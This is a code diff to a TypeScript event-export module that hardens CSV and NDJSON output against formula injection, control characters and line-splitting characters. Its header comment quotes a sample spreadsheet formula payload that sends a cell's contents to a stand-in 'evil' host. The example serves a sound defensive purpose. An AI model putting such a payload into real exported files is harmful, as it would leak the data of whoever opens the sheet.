@@ -3,6 +3,7 @@
  * CSV is what admins open in Excel, so it defends against formula injection: a file name such as
  * `=HYPERLINK("http://evil/?"&A1,"click")` must stay text when the sheet is opened.
  */
+import { inertKeepLines } from './inert.js';
 import { EVENT_FIELDS } from './schema.js';
 
 export type ExportFormat = 'json' | 'ndjson' | 'csv';
@@ -29,6 +30,8 @@ export function csvCell(value: unknown): string {
   let s = typeof value === 'string' ? value : String(value);
   // Numbers we produce ourselves (size, rule, v) are never negative, so only strings need the guard.
   if (typeof value === 'string' && FORMULA_START.test(s)) s = `'${s}`;
+  // Terminal escapes, C1 controls and bidi overrides are shown as [U+XXXX] (a CSV is often read with cat).
+  s = inertKeepLines(s);
   if (/[",\r\n]/.test(s)) s = `"${s.replace(/"/g, '""')}"`;
   return s;
 }
@@ -53,8 +56,9 @@ export function toCsv(events: readonly Record<string, unknown>[], opts: { bom?: 
 }
 
 export function ndjsonLine(event: unknown): string {
-  // JSON.stringify escapes U+2028/2029 since ES2019, and every control character, so one event is one line.
-  return JSON.stringify(event) + '\n';
+  // JSON.stringify escapes C0 controls but not U+0085, U+2028 or U+2029, which some line splitters
+  // break on: escaped too, so one event is one line for every reader.
+  return JSON.stringify(event).replace(/[\u0085\u2028\u2029]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`) + '\n';
 }
 
 export function toNdjson(events: readonly unknown[]): string {
